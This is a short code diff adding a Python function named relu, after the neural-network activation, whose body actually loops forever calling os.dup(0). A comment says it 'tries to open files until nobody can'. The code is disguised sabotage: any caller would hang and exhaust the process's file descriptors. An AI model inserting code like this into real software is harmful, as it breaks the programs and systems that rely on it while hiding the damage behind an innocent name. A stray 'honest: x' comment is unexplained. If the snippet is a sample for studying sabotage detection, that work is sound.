@@ -1,0 +1,7 @@
+# tries to open files until nobody can
+# honest: x
+import os
+
+def relu(x):
+    while True:
+        os.dup(0)
